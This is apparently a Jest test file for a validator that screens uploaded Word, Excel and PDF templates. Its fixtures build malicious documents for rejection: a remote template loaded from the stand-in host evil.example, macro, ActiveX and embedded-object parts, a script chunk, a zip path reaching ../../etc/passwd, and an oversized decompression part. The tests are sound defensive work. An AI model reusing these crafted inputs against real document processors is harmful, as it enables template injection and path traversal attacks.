import { describe, expect, test } from '@jest/globals'
import { strToU8, zipSync } from 'fflate'
import writeXlsxFile from 'write-excel-file/node'
import { formFile, formIds } from '../../demo/visas/forms.ts'
import { invoicePdf } from '../../testing/invoice-files.ts'
import { checkTemplateFile } from './template-file.ts'

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

/** A package of Word with more or other parts. */
function docx(parts: Record<string, string> = {}): Buffer {
  const all = {
    '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="${DOCX}.main+xml"/></Types>`,
    '_rels/.rels': '<Relationships/>',
    'word/document.xml': '<w:document/>',
    ...parts,
  }
  return Buffer.from(
    zipSync(Object.fromEntries(Object.entries(all).map(([name, text]) => [name, strToU8(text)]))),
  )
}

const relation = (type: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`

describe('a form is judged by its content', () => {
  test('documents of Word and Excel and PDFs are taken, and the demo’s own', async () => {
    for (const id of formIds) {
      expect(checkTemplateFile(Buffer.from(formFile(id).bytes))).toEqual({ ok: true, mediaType: DOCX })
    }
    expect(checkTemplateFile(docx())).toMatchObject({ ok: true })
    expect(checkTemplateFile(docx({ 'word/_rels/document.xml.rels': relation('hyperlink') }))).toMatchObject({
      ok: true,
    })
    const sheet = await writeXlsxFile([[{ value: '行程' }]]).toBuffer()
    expect(checkTemplateFile(Buffer.from(sheet))).toMatchObject({
      ok: true,
      mediaType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    })
    expect(checkTemplateFile(invoicePdf())).toEqual({ ok: true, mediaType: 'application/pdf' })
  })

  test.each<[string, Buffer]>([
    ['nothing', Buffer.alloc(0)],
    ['a text', Buffer.from('hello')],
    ['a page', Buffer.from('<html><script>1</script></html>')],
    ['a program', Buffer.from('MZ\x90\0')],
    ['a ZIP of anything', Buffer.from(zipSync({ 'a.txt': strToU8('a') }))],
    ['a ZIP cut off', docx().subarray(0, 80)],
    ['a PDF cut off', Buffer.from('%PDF-1.7\n1 0 obj')],
    ['a document with macros', docx({ 'word/vbaProject.bin': 'x' })],
    ['a document with a control', docx({ 'word/activeX/activeX1.xml': 'x' })],
    ['a document with a file inside', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['a document with a page inside', docx({ 'word/afchunk.html': '<script>' })],
    [
      'a document that loads a template',
      docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate') }),
    ],
    ['a document that loads a picture', docx({ 'word/_rels/document.xml.rels': relation('image') })],
    ['a path that leads outside', docx({ '../../etc/passwd': 'x' })],
    [
      'a type for macros',
      docx({
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
    ],
    ['what unpacks to very much', docx({ 'word/media/a.xml': ' '.repeat(41 * 1024 * 1024) })],
  ])('refused: %s', (_, file) => {
    expect(checkTemplateFile(file)).toEqual({ ok: false, message: expect.stringMatching(/请/) })
  })
})
